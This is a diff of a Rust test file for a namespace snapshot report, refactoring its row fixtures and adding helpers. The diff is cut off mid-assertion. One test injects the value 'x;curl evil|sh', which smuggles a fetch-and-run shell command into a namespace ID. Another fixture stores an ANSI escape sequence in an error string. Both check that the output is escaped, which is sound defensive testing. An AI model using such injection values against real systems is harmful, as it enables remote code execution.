@@ -3,6 +3,7 @@ use time::macros::datetime;
 
 use super::*;
 use crate::report::Trouble;
+use crate::store::{LeaseNumber, PublishedRecord, UnpublishedSnapshots};
 
 const NOW: OffsetDateTime = datetime!(2026-11-24 12:00 UTC);
 
@@ -29,25 +30,43 @@ fn point(key: i32, days_ago: i64, objects: i64) -> PointRow {
 fn row(key: i32, points: &[PointRow]) -> ReportRow {
     let newest = points.iter().rfind(|point| point.key == key);
     ReportRow {
-        key,
-        account_id: "account".to_owned(),
-        namespace_id: format!("id-{key}"),
-        name: Some(format!("name-{key}")),
-        script: None,
-        class: None,
-        first_seen_at: NOW - Duration::days(100),
-        missing_since: None,
-        snapshot_id: newest.map(|_| key),
-        recorded_at: newest.map(|newest| newest.at),
-        with_data: newest.map(|newest| newest.with_data),
-        without_data: newest.map(|newest| newest.objects - newest.with_data),
-        unknown: newest.map(|_| 0),
-        held_snapshot_id: None,
-        held_error: None,
-        last_snapshot_id: None,
-        last_status: None,
-        last_error: None,
+        namespace: NamespaceRecord {
+            key,
+            lease: LeaseNumber::default(),
+            account_id: "account".to_owned(),
+            namespace_id: format!("id-{key}"),
+            name: Some(format!("name-{key}")),
+            script: None,
+            class: None,
+            use_sqlite: None,
+            preview: None,
+            first_seen_at: NOW - Duration::days(100),
+            missing_since: None,
+            published: newest.map(|newest| PublishedRecord {
+                snapshot_id: key,
+                recorded_at: newest.at,
+                objects: newest.objects as u64,
+                with_data: newest.with_data as u64,
+                unknown: 0,
+                baseline_snapshot: key,
+                recorded_since: newest.at,
+                horizon: None,
+                horizon_snapshot: None,
+            }),
+        },
+        unpublished: UnpublishedSnapshots::default(),
     }
+}
+
+fn missing_since(since: OffsetDateTime, mut row: ReportRow) -> ReportRow {
+    row.namespace.missing_since = Some(since);
+    row
+}
+
+fn last_failed(mut row: ReportRow) -> ReportRow {
+    row.unpublished.last_status = Some("failed".to_owned());
+    row.unpublished.last_error = Some("a\u{1b}[2J".to_owned());
+    row
 }
 
 fn report(rows: &[ReportRow], points: &[PointRow]) -> Report {
@@ -84,10 +103,7 @@ fn words_of(report: &Report) -> Option<String> {
 #[test]
 fn the_missing_count_up_to_the_day_on_which_they_were() {
     let points = [point(1, 20, 40), point(2, 20, 7)];
-    let gone = ReportRow {
-        missing_since: Some(NOW - Duration::days(3)),
-        ..row(2, &points)
-    };
+    let gone = missing_since(NOW - Duration::days(3), row(2, &points));
     let report = report(&[row(1, &points), gone], &points);
     let by_day: Vec<_> = report.totals.days.iter().rev().take(5).map(|day| day.objects).collect();
     assert_eq!(by_day, [Some(40), Some(40), Some(40), Some(40), Some(47)]);
@@ -103,22 +119,18 @@ fn the_missing_count_up_to_the_day_on_which_they_were() {
 #[test]
 fn the_most_urgent_comes_first_and_the_retired_need_nothing() {
     let points = [point(1, 3, 5), point(2, 0, 5), point(3, 0, 0), point(4, 0, 5)];
+    let held = UnpublishedSnapshots {
+        held_snapshot_id: Some(9),
+        held_error: Some("why".to_owned()),
+        last_status: Some("running".to_owned()),
+        ..UnpublishedSnapshots::default()
+    };
     let rows = [
         row(1, &points),
+        last_failed(row(2, &points)),
+        missing_since(NOW, last_failed(row(3, &points))),
         ReportRow {
-            last_status: Some("failed".to_owned()),
-            last_error: Some("a\u{1b}[2J".to_owned()),
-            ..row(2, &points)
-        },
-        ReportRow {
-            missing_since: Some(NOW),
-            last_status: Some("failed".to_owned()),
-            ..row(3, &points)
-        },
-        ReportRow {
-            held_snapshot_id: Some(9),
-            held_error: Some("why".to_owned()),
-            last_status: Some("running".to_owned()),
+            unpublished: held,
             ..row(4, &points)
         },
     ];
@@ -137,10 +149,8 @@ fn the_most_urgent_comes_first_and_the_retired_need_nothing() {
 
 #[test]
 fn a_namespace_that_is_new_is_not_stale_yet() {
-    let fresh = ReportRow {
-        first_seen_at: NOW - Duration::hours(36),
-        ..row(1, &[])
-    };
+    let mut fresh = row(1, &[]);
+    fresh.namespace.first_seen_at = NOW - Duration::hours(36);
     let old = row(2, &[]);
     let report = report(&[fresh, old], &[]);
     assert_eq!(troubles(&report), [(Trouble::Stale, "name-2")]);
@@ -151,11 +161,8 @@ fn a_namespace_that_is_new_is_not_stale_yet() {
 #[test]
 fn a_command_that_is_to_be_copied_runs_nothing_else() {
     let points = [point(1, 1, 10)];
-    let gone = ReportRow {
-        namespace_id: "x;curl evil|sh".to_owned(),
-        missing_since: Some(NOW),
-        ..row(1, &points)
-    };
+    let mut gone = missing_since(NOW, row(1, &points));
+    gone.namespace.namespace_id = "x;curl evil|sh".to_owned();
     let report = report(&[gone], &points);
     let why = &report.attention[0].why;
     assert!(
